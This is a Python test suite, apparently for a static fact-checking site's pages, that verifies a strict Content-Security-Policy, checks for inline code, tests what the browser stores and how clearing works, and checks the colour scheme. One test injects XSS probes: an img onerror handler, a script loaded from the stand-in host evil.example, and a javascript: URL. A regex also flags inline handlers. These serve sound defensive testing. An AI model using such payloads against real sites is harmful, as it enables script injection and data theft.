"""The pages under their policy: nothing in them runs, nothing is refused, and what they keep is what they list."""

import re
from collections.abc import Iterator
from html import unescape
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from musnad.plugin.policy import HEADERS, find_inline
from musnad.text.languages import LANGS, Lang
from tests.site.conftest import ROOT, SIZES, Builds, serve

CLAIM = "claims/sy24-109221/flour-price"
KINDS = ("first", "second", "flat")
_ELEMENT = '<meta http-equiv="Content-Security-Policy" content="'
_TAG = re.compile(r"<[a-zA-Z](?:[^<>\"']|\"[^\"]*\"|'[^']*')*>")
_RUNS = re.compile(r"""\s(?:style|on[a-z]+)\s*=\s*["']|=\s*["']?\s*(?:javascript|vbscript):""", re.IGNORECASE)
TOLD = """addEventListener("securitypolicyviolation",
  ({effectiveDirective, blockedURI}) => console.error(`policy: ${effectiveDirective} ${blockedURI}`))"""


@pytest.fixture(params=KINDS)
def site(request: pytest.FixtureRequest, builds: Builds, second: Path, flat: Path) -> Path:
    """Return the real record, the invented one, and the real one with pages as files."""
    return {"first": builds.first, "second": second, "flat": flat}[request.param]


def _read_policy(html: str) -> str:
    return unescape(html.partition(_ELEMENT)[2].partition('"')[0])


def test_nothing_in_a_page_runs(site: Path, flat: Path) -> None:
    """No script, style or handler among its text, no address that is code; data are none of these.

    Pages as files set their address right before anything is fetched, which the policy allows by its digest.
    """
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 100
    for path in pages:
        html = path.read_text(encoding="utf-8")
        found = [*find_inline(html)]
        assert len(found) == (site == flat and path.name not in ("404.html", "index.html")), path
        assert all(digest in _read_policy(html) for _, digest in found), path
        assert [tag for tag in _TAG.findall(html) if _RUNS.search(tag)] == [], path


def test_every_page_has_the_policy_before_anything_is_loaded(site: Path) -> None:
    """The same on each, and among the lines for hosts."""
    policies = set()
    for path in site.rglob("*.html"):
        head = path.read_text(encoding="utf-8").partition(_ELEMENT)
        assert not re.search(r"<(script|link|style|base)\b", head[0]), path
        policies.add(_read_policy("".join(head)))
        assert '<meta name="referrer" content="no-referrer">' in head[2], path
    (policy,) = policies
    assert policy.startswith("default-src 'none'; ")
    assert "unsafe" not in policy
    assert f"  Content-Security-Policy: {policy}; frame-ancestors 'none'\n" in (site / HEADERS).read_text("utf-8")


def test_guide_for_hosts_says_what_the_build_writes(builds: Builds) -> None:
    """Each header, in the notation of each host."""
    guide = (ROOT / "docs/en/headers.md").read_text(encoding="utf-8")
    for name, value in _read_headers(builds.first).items():
        for line in ('add_header {} "{}" always;', 'Header always set {} "{}"', '\t{} "{}"'):
            assert f"\n{line.format(name, value)}\n" in guide, name


def _read_headers(site: Path) -> dict[str, str]:
    lines = (site / HEADERS).read_text(encoding="utf-8").splitlines()[1:]
    return dict(line.strip().split(": ", 1) for line in lines)


class Visit:
    """A page, and what was refused or failed on it."""

    def __init__(self, context: BrowserContext, address: str, lang: Lang) -> None:
        context.add_init_script(TOLD)
        self.page, self.address, self.lang = context.new_page(), address, lang
        self.said: list[str] = []
        self.page.on("console", lambda said: self.said.append(said.text) if said.type in ("error", "warning") else None)
        self.page.on("pageerror", lambda error: self.said.append(str(error)))

    def open(self, place: str) -> Page:
        """Go to a page of the language."""
        self.page.goto(f"{self.address}{self.lang}/{place}")
        return self.page


@pytest.fixture(params=["as shipped", pytest.param("with headers", marks=pytest.mark.long)])
def served(request: pytest.FixtureRequest, builds: Builds) -> Iterator[str]:
    """Serve the real record, as it is and as hosts send it that read the lines for them."""
    headers = _read_headers(builds.first) if request.param == "with headers" else {}
    with serve(builds.first, headers) as address:
        yield address


@pytest.fixture(params=SIZES)
def visit(request: pytest.FixtureRequest, served: str, browser: Browser) -> Iterator[Visit]:
    """Open a page on a phone in Arabic, on a desk in English."""
    width, height = SIZES[request.param]
    context = browser.new_context(viewport={"width": width, "height": height}, accept_downloads=True)
    yield Visit(context, served, request.param)
    context.close()


def _use_search(visit: Visit) -> None:
    page = visit.open("")
    if visit.lang == "ar":
        page.locator("label[for=__search].md-header__button").click()
    page.locator(".md-search__input").click()
    page.keyboard.type("badia")
    expect(page.locator(".md-search-result__item a").first).to_be_visible()
    page.keyboard.press("Enter")
    page.wait_for_url("**/entities/badia/**")


def _use_form(visit: Visit) -> None:
    """Open a record, change it, keep it on the device, and take the file away."""
    page = visit.open(f"propose/?{CLAIM}")
    expect(page.locator("textarea").first).to_be_visible()
    page.locator("textarea").first.type("x")
    page.locator(".kept input[type=checkbox]").check()
    page.wait_for_timeout(500)
    if page.locator(".md-button[download], button.md-button").count():
        page.locator("button.md-button").last.focus()


def _use_views(visit: Visit) -> None:
    page = visit.open("claims/all/?modality=alleged")
    expect(page.locator("table.claims tbody [aria-rowindex]").first).to_be_visible()
    page = visit.open("claims/relations/")
    expect(page.locator(".web__picture svg").first).to_be_attached()
    page = visit.open("map/")
    expect(page.locator(".filters").first).to_be_attached()


def _use_record(visit: Visit) -> None:
    """A card, the citation, another version, the scheme, print."""
    page = visit.open(f"{CLAIM}/?v=000000#cite")
    page.locator(".voice__who a").first.focus()
    page.keyboard.press("Alt+ArrowDown")
    expect(page.locator(".card .entity")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator(".cite[open]")).to_be_attached()
    page.locator("label[for=__palette_1]").click()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    page.emulate_media(media="print")
    page.emulate_media(media="screen")


def _list_places(site: Path, lang: Lang) -> list[str]:
    """Return a page of each kind, by the class that tells it."""
    found: dict[str, str] = {}
    for path in sorted((site / lang).rglob("index.html")):
        kind = re.search(r'class="md-content page page--(\S+?)["\s]', path.read_text(encoding="utf-8"))
        assert kind, path
        place = path.parent.relative_to(site / lang).as_posix()
        found.setdefault(kind[1], "" if place == "." else f"{place}/")
    return list(found.values())


@pytest.mark.browser
@pytest.mark.sampled(4)
def test_nothing_is_refused_and_the_list_of_what_is_kept_is_whole(visit: Visit, builds: Builds) -> None:
    """On each kind of page, in each state; nothing is kept before anything is chosen, and nothing after clearing."""
    page = visit.page
    for place in _list_places(builds.first, visit.lang):
        visit.open(place)
        page.wait_for_load_state("networkidle")
    page.goto(visit.address)
    _use_search(visit)
    assert _list_kept(page) == set()
    _use_views(visit)
    _use_record(visit)
    _use_form(visit)
    kept = _list_kept(page)
    page = visit.open("kept/")
    listed = page.eval_on_selector_all("[data-key]", "all => all.map((e) => e.dataset.key)")
    assert kept == {name if name.startswith("musnad") else f"/.{name}" for name in listed}
    said = page.locator("#clear [role=status]")
    expect(said).to_have_text(page.locator("#clear").get_attribute("data-some") or "")
    page.locator("#clear button").click()
    expect(said).to_have_text(page.locator("#clear").get_attribute("data-done") or "")
    assert _list_kept(page) == set()
    assert visit.said == []
    page.goto(f"{visit.address}no/such/page")
    assert len(visit.said) == 1
    assert "404" in visit.said[0]


def _list_kept(page: Page) -> set[str]:
    """Return the names of all that a page can keep on a device."""
    kept: list[str] = page.evaluate(
        """async () => [...Object.keys(localStorage), ...Object.keys(sessionStorage), ...await caches.keys(),
        ...(await indexedDB.databases()).map(({name}) => name), ...document.cookie.split(";").filter(Boolean),
        ...(await navigator.serviceWorker.getRegistrations()).map(({scope}) => scope)]"""
    )
    assert page.context.cookies() == []
    return set(kept)


@pytest.mark.browser
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_scheme_is_right_before_anything_is_seen(scheme: str, address: str, browser: Browser) -> None:
    """Of the device, or the chosen one: whenever the body is there, it has its scheme already."""
    seen = """
      new MutationObserver(() => {
        if (document.body) (window.seen ??= new Set()).add(document.body.dataset.mdColorScheme)
      }).observe(document, {childList: true, subtree: true})
      requestAnimationFrame(function look() {
        if (document.body) (window.painted ??= new Set()).add(getComputedStyle(document.body).backgroundColor)
        if (document.readyState !== "complete") requestAnimationFrame(look)
      })"""
    context = browser.new_context(color_scheme=scheme, viewport={"width": 1440, "height": 900})
    page = context.new_page()
    page.add_init_script(seen)
    own, other = {"light": ("default", 1), "dark": ("slate", 0)}[scheme]
    for expected in (own, {"default": "slate", "slate": "default"}[own]):
        page.goto(f"{address}en/{CLAIM}/")
        assert page.locator("body").get_attribute("data-md-color-scheme") == expected
        assert len(page.evaluate("[...painted]")) <= 1
        page.locator(f"label[for=__palette_{other}]").evaluate("(label) => label.click()")
    context.close()


@pytest.mark.browser
@pytest.mark.parametrize("sink", ["innerHTML", "script", "link"])
def test_policy_holds(sink: str, address: str, browser: Browser) -> None:
    """What a stranger's words would do if they came into a page as HTML: nothing."""
    context = browser.new_context()
    page = context.new_page()
    page.add_init_script(TOLD)
    asked: list[str] = []
    page.on("requestfinished", lambda sent: asked.append(sent.url))
    said: list[str] = []
    page.on("console", lambda told: said.append(told.text))
    page.goto(f"{address}en/{CLAIM}/")
    does = {
        "innerHTML": "document.body.lastElementChild.innerHTML = '<img src=x onerror=\"window.ran = 1\">'",
        "script": "document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
        "link": "location.href = 'javascript:window.ran = 1'",
    }[sink]
    page.evaluate(f"() => {{ try {{ {does} }} catch {{}} }}")
    page.wait_for_timeout(200)
    assert page.evaluate("window.ran") is None
    assert not [url for url in asked if "evil" in url]
    assert [text for text in said if text.startswith("policy: ")]
    context.close()


@pytest.mark.parametrize("lang", LANGS)
def test_every_page_leads_to_what_browsers_keep(lang: Lang, builds: Builds) -> None:
    """At its foot."""
    html = (builds.first / lang / CLAIM / "index.html").read_text(encoding="utf-8")
    assert 'href="../../../kept/"' in html
